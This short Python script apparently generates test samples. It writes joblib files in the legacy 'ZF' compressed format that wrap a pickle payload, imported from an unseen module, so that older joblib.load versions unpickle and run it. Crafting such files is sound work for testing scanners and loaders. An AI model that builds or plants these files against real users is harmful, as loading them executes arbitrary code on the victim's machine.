from common import *
import zlib
# joblib < 0.9.3 "ZF" format: b'ZF' + hex length padded to 19 + zlib stream; joblib.load
# sees the ZF prefix and unpickles the decompressed bytes with ZipNumpyUnpickler.
pk = b'\x80\x02'+PAYLOAD+b'.'
hexlen = ('{:#x}'.format(len(pk))).ljust(19).encode()
run('b4.joblib', b'ZF'+hexlen+zlib.compress(pk))
# same, with the optional space joblib <= 0.8.4 wrote
run('b4b.joblib', b'ZF'+hexlen+b' '+zlib.compress(pk))
